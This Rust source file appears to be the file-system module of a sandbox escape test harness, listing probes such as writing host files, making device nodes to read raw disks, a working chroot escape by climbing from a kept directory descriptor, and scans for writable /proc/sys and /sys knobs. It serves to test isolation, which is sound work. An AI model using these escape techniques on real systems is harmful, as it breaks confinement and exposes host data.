//! Attacks through the file system: host-global knobs, device nodes, information about the host, leaving a chroot.

use std::fs::OpenOptions;
use std::os::fd::AsRawFd as _;

use crate::raw::{address, call, own, text};
use crate::report::{Act, Outcome, Step as _, argument, without_effect};

/// The attacks of this file.
pub(crate) const ACTS: &[(&str, Act)] = &[
    ("open-write", open_write),
    ("read", read),
    ("read-token", read_token),
    ("write-token", write_token),
    ("device", device),
    ("device-mknodat", device_mknodat),
    ("chroot-escape", chroot_escape),
    ("fifo", fifo),
    ("writable-sysctl", writable_sysctl),
    ("disclosures", disclosures),
];

/// Opens a file for writing and writes nothing: the descriptor is the proof.
fn open_write(arguments: &[String]) -> Outcome {
    let path = argument(arguments, 0)?;
    let file = OpenOptions::new().write(true).open(path).step("open")?;
    Ok(format!("{path} is open for writing as {}", file.as_raw_fd()))
}

/// Reads a file; whatever it holds is the proof.
fn read(arguments: &[String]) -> Outcome {
    let path = argument(arguments, 0)?;
    let content = std::fs::read(path).step("read")?;
    if content.is_empty() { without_effect("read") } else { Ok(format!("{path} has {} bytes", content.len())) }
}

/// Reads a file and looks for a token in it.
fn read_token(arguments: &[String]) -> Outcome {
    let (path, token) = (argument(arguments, 0)?, argument(arguments, 1)?);
    let content = std::fs::read_to_string(path).step("read")?;
    if content.contains(token) { Ok(format!("{path} holds {token}")) } else { without_effect("read") }
}

/// Writes a token to a file of the test.
fn write_token(arguments: &[String]) -> Outcome {
    let (path, token) = (argument(arguments, 0)?, argument(arguments, 1)?);
    std::fs::write(path, token).step("write")?;
    Ok(format!("{path} now holds {token}"))
}

/// Makes a device node (kind b or c, major, minor), opens it and reads the token at its start.
fn device_with(arguments: &[String], at: bool) -> Outcome {
    let kind = if argument(arguments, 0)? == "b" { libc::S_IFBLK } else { libc::S_IFCHR };
    let number = |index: usize| argument(arguments, index).map(|text| text.parse::<u32>().unwrap_or(0));
    let device = libc::makedev(number(1)?, number(2)?);
    let token = argument(arguments, 3)?;
    let mut refused = without_effect("mknod");
    for directory in ["/", "/dev", "/tmp", "/dev/shm"] {
        let path = format!("{directory}/node-of-the-attacker");
        let name = text(&path);
        let (mode, address) = (u64::from(kind | 0o666), address(name.as_c_str()));
        let made = if at {
            call(libc::SYS_mknodat, &[libc::AT_FDCWD as u64, address, mode, device])
        } else {
            call(libc::SYS_mknod, &[address, mode, device])
        };
        if let Err(errno) = made {
            refused = Err(errno).step("mknod");
            continue;
        }
        let content = std::fs::File::open(&path).and_then(|mut file| {
            let mut bytes = [0_u8; 512];
            std::io::Read::read_exact(&mut file, &mut bytes).map(|()| bytes)
        });
        match content {
            Ok(bytes) if String::from_utf8_lossy(&bytes).contains(token) => return Ok(format!("{path} gave {token}")),
            Ok(_) => refused = without_effect("read device"),
            Err(error) => refused = Err(error).step("open device"),
        }
    }
    refused
}

fn device(arguments: &[String]) -> Outcome {
    device_with(arguments, false)
}

fn device_mknodat(arguments: &[String]) -> Outcome {
    device_with(arguments, true)
}

/// The oldest escape: keep a directory open, chroot below it, and climb. Reads a token file (path on the host).
fn chroot_escape(arguments: &[String]) -> Outcome {
    let (path, token) = (argument(arguments, 0)?, argument(arguments, 1)?);
    let directory = std::fs::File::open("/").step("open /")?;
    std::fs::create_dir_all("/tmp/cell").step("mkdir")?;
    let (cell, up, here) = (text("/tmp/cell"), text(".."), text("."));
    call(libc::SYS_chroot, &[address(cell.as_c_str())]).step("chroot")?;
    call(libc::SYS_fchdir, &[directory.as_raw_fd() as u64]).step("fchdir")?;
    for _ in 0..64 {
        call(libc::SYS_chdir, &[address(up.as_c_str())]).step("chdir")?;
    }
    call(libc::SYS_chroot, &[address(here.as_c_str())]).step("chroot")?;
    let content = std::fs::read_to_string(path).step("read")?;
    if content.contains(token) { Ok(format!("{path} holds {token}")) } else { without_effect("read") }
}

/// One call that blocks must not stall what supervises: a FIFO without a writer is opened by a thread, then a file is
/// opened, and a refused call made, within two seconds.
fn fifo(_: &[String]) -> Outcome {
    let path = text("/tmp/fifo");
    call(libc::SYS_mknod, &[address(path.as_c_str()), u64::from(libc::S_IFIFO | 0o666), 0]).step("mknod")?;
    let opener = std::thread::spawn(|| std::fs::File::open("/tmp/fifo").is_ok());
    let begin = std::time::Instant::now();
    std::fs::File::open("/etc/hostname").step("second open")?;
    let refused = call(libc::SYS_swapon, &[0, 0]);
    let took = begin.elapsed();
    let write_end =
        own(call(libc::SYS_openat, &[libc::AT_FDCWD as u64, address(path.as_c_str()), (libc::O_RDWR) as u64, 0])
            .step("open fifo")?);
    drop((opener.join(), write_end));
    if took.as_secs() < 2 && refused.is_err() { without_effect("fifo") } else { Ok(format!("stalled for {took:?}")) }
}

/// Every file below /proc/sys and /sys that opens for writing and is not the namespace's own.
fn writable_sysctl(_: &[String]) -> Outcome {
    let mut open = Vec::new();
    for path in ["/proc/sys/kernel", "/proc/sys/vm", "/proc/sys/fs", "/sys/kernel", "/sys/module", "/sys/block"] {
        walk(std::path::Path::new(path), 3, &mut open);
    }
    if open.is_empty() { without_effect("no knob opens for writing") } else { Ok(open.join(" ")) }
}

fn walk(path: &std::path::Path, depth: u32, open: &mut Vec<String>) {
    for entry in std::fs::read_dir(path).into_iter().flatten().flatten() {
        let path = entry.path();
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() && depth > 0 {
            walk(&path, depth - 1, open);
        } else if kind.is_file() && OpenOptions::new().write(true).open(&path).is_ok() {
            open.push(path.display().to_string());
        }
    }
}

/// What the host lets out: each file that has content, by name.
fn disclosures(arguments: &[String]) -> Outcome {
    let mut told = Vec::new();
    for path in arguments {
        let mut bytes = [0_u8; 64];
        let length = OpenOptions::new()
            .read(true)
            .open(path)
            .and_then(|mut file| std::io::Read::read(&mut file, &mut bytes))
            .unwrap_or(0);
        if length > 0 {
            told.push(path.clone());
        }
    }
    if told.is_empty() { without_effect("nothing was told") } else { Ok(told.join(" ")) }
}
